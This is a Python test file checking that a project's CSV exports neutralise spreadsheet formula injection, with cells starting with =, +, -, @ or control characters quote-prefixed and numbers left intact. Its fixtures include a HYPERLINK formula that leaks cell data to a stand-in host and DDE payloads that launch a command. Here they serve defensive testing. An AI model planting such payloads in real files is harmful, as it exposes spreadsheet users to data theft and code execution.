"""CSV formula injection (issue 14, item 3): every CSV the project writes neutralises the text cells a
spreadsheet would run as formulas, with one function, and numbers stay numbers."""
import csv
import io
import json

import duckdb
import pandas as pd
import pytest

from db import queries
from db.export import neutralise_cell, signals_csv, to_csv_bytes
from db.filters import Filters
from etl.__main__ import main
from tests.conftest import ROOT

HOSTILE = {
    "id": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "source": "+cmd|' /C calc'!A0",
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "url": "-2+3+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "=HYPERLINK(\"x\")"])
def test_formula_cells_get_a_leading_quote(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "إيران وروسيا", "", " =1", "'=1", 5, -5, -2.5, None])
def test_other_cells_are_left_alone(cell):
    assert neutralise_cell(cell) == cell


def test_to_csv_bytes_neutralises_text_and_keeps_negative_numbers():
    df = pd.DataFrame({"title": ["=1+2", "-x", "ok"], "value": [-5.0, -2.5, None], "start": [-1, 0, 1]})
    rows = list(csv.DictReader(io.StringIO(to_csv_bytes(df).decode("utf-8-sig"))))
    assert [r["title"] for r in rows] == ["'=1+2", "'-x", "ok"]
    assert [r["value"] for r in rows] == ["-5", "-2.5", ""]
    assert [r["start"] for r in rows] == ["-1", "0", "1"]


def formula_cells(data: bytes, numeric: set[str]) -> list[tuple[str, str]]:
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows
    return [(k, v) for r in rows for k, v in r.items() if k not in numeric and v and v[0] in "=+-@\t\r"]


def test_etl_export_and_the_dashboard_downloads_write_no_formula(tmp_path):
    seed = (ROOT / "seeds" / "000_5ca05d674973007d.txt").read_text(encoding="utf-8")
    src = tmp_path / "hostile.jsonl"
    src.write_text(json.dumps(dict(HOSTILE, text=seed, published="2024-03-19"), ensure_ascii=False) + "\n",
                   encoding="utf-8")
    db = tmp_path / "m.duckdb"
    assert main(["ingest", str(src), "--db", str(db), "--quiet"]) == 0
    with duckdb.connect(str(db)) as con:  # a negative figure must stay a number in the export
        con.execute("UPDATE signals SET value = -5 WHERE signal_id = (SELECT min(signal_id) FROM signals)")
    out = tmp_path / "out"
    assert main(["export", "--db", str(db), "--out", str(out)]) == 0
    numeric = {"value", "start", "end", "mentions", "outlets", "cue_start", "cue_end", "signals"}
    signals = (out / "signals.csv").read_bytes()
    articles = (out / "articles.csv").read_bytes()
    assert formula_cells(signals, numeric) == []
    assert formula_cells(articles, numeric) == []
    rows = list(csv.DictReader(io.StringIO(signals.decode("utf-8-sig"))))
    assert {r["article_id"] for r in rows} == {"'" + HOSTILE["id"]}
    assert {r["source"] for r in rows} == {"'" + HOSTILE["source"]}
    assert "-5" in {r["value"] for r in rows}
    [art] = csv.DictReader(io.StringIO(articles.decode("utf-8-sig")))
    assert (art["title"], art["url"]) == ("'" + HOSTILE["title"], "'" + HOSTILE["url"])
    # The Explorer's download is signals_csv itself; every other page's table goes through to_csv_bytes.
    assert queries.read(signals_csv, db, Filters(originals_only=False, hide_rejected=False)) == signals
